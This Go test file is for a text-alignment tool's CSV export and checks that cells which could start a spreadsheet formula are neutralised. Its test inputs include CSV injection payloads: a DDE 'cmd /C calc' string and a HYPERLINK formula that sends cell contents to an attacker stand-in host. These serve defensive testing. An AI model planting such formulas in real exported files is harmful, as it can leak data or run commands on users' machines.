package exchange

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"sverka"
	"sverka/internal/storetest"
	"sverka/store"
)

func TestGuardCells(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+2", "'=1+2"},
		{`=HYPERLINK("http://evil.example","x")`, `'=HYPERLINK("http://evil.example","x")`},
		{"+A1", "'+A1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"- Да, товарищ.", "'- Да, товарищ."},
		{"-", "'-"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-5", "-5"},
		{"+3.5", "+3.5"},
		{"-3,5", "-3,5"},
		{"-5.", "'-5."},
		{"— Да", "— Да"},
		{"Sentence = fine", "Sentence = fine"},
		{"", ""},
	} {
		t.Run(tc.in, func(t *testing.T) {
			if got := guardCells([]string{tc.in})[0]; got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// TestCSVGuardsFormulas accepts a correction that makes the first
// sentence's corrected reading start like a formula: the cell reaches the
// spreadsheet as text, the diplomatic reading beside it untouched.
func TestCSVGuardsFormulas(t *testing.T) {
	ctx := context.Background()
	db := storetest.Open(t)
	u, err := db.CreateUser(ctx, "mallory", sverka.RoleEditor, "")
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	a := &sverka.Annotation{DocumentID: "117313", Motivation: sverka.MotivationCorrection, CreatorID: u.ID, Body: evil,
		Target: sverka.TextTarget{Lang: "ru", Start: 0, End: 5, Exact: "ПЕНИН"}}
	if err := db.CreateAnnotation(ctx, a); err != nil {
		t.Fatal(err)
	}
	if _, err := db.ReviewCorrection(ctx, a.ID, sverka.StatusAccepted, a.Version, u.ID); err != nil {
		t.Fatal(err)
	}
	b := export(t, db, "csv", Options{}, "117313")
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][4]; !strings.HasPrefix(got, "'"+evil) {
		t.Errorf("got corrected cell %q, want it to start with %q", got, "'"+evil)
	}
	if got := rows[1][3]; !strings.HasPrefix(got, "ПЕНИН") {
		t.Errorf("got diplomatic cell %q, want it as the OCR has it", got)
	}
	for i, r := range rows {
		for k, c := range r {
			if c != "" && (c[0] == '=' || c[0] == '@') {
				t.Errorf("row %d cell %d starts a formula: %q", i+1, k+1, c)
			}
		}
	}
}

// TestCSVNamesLinksByTheirNumbers merges links 1 and 2: the CSV's link
// column gives each row the stable number of #link-N (1, 3, 4, …), as TEI
// and TMX do, not its new position (1, 2, 3, …).
func TestCSVNamesLinksByTheirNumbers(t *testing.T) {
	ctx := context.Background()
	db := storetest.Open(t)
	u, err := db.CreateUser(ctx, "vera", sverka.RoleEditor, "")
	if err != nil {
		t.Fatal(err)
	}
	d, err := db.FindDocumentByID(ctx, "117313")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.MergeLinks(ctx, store.AlignmentEdit{DocumentID: d.ID, Revision: d.Revision, UserID: u.ID}, 1); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(export(t, db, "csv", Options{}, "117313"), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(d.Links) {
		t.Fatalf("got %d rows, want a header and %d links", len(rows), len(d.Links)-1)
	}
	for i, want := range []string{"1", "3", "4"} {
		if got := rows[i+1][1]; got != want {
			t.Errorf("row %d: got link %q, want %q", i+1, got, want)
		}
	}
}
